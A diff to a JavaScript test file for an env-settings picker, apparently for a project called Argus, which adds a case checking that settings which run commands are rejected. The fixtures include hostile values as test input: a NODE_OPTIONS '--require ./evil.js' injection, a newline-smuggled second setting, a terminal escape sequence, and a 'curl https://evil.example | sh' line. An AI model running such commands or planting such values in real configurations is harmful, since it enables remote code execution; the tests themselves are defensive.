@@ -32,7 +32,7 @@ test('a value with a line break is refused', () => {
   expect(() => formatEnv({ PRODUCT_NAME: 'one\ntwo' })).toThrow('PRODUCT_NAME has characters');
 });
 
-test('only settings that Argus knows and that fit on a line are picked', () => {
+test('only settings that Argus knows, that fit on a line and that run nothing are picked', () => {
   const text = [
     'PORT=3100',
     'NODE_OPTIONS=--require ./evil.js',
@@ -41,11 +41,12 @@ test('only settings that Argus knows and that fit on a line are picked', () => {
     'constructor=x',
     'PRODUCT_NAME="Argus\nNODE_OPTIONS=--require ./evil.js"',
     "CONTACT_EMAIL='a\u001b[2J@example.test'",
+    "BACKUP_COMMAND='curl https://evil.example | sh'",
     'COFFEE_URL="https://coffee.example/#me"',
   ].join('\n');
   const { settings, leftOut } = pickSettings(text);
   expect(settings).toEqual({ PORT: '3100', COFFEE_URL: 'https://coffee.example/#me' });
-  expect(leftOut).toBe(6);
+  expect(leftOut).toBe(7);
   expect(parseEnv(formatEnv(settings))).toEqual(settings);
 });
 
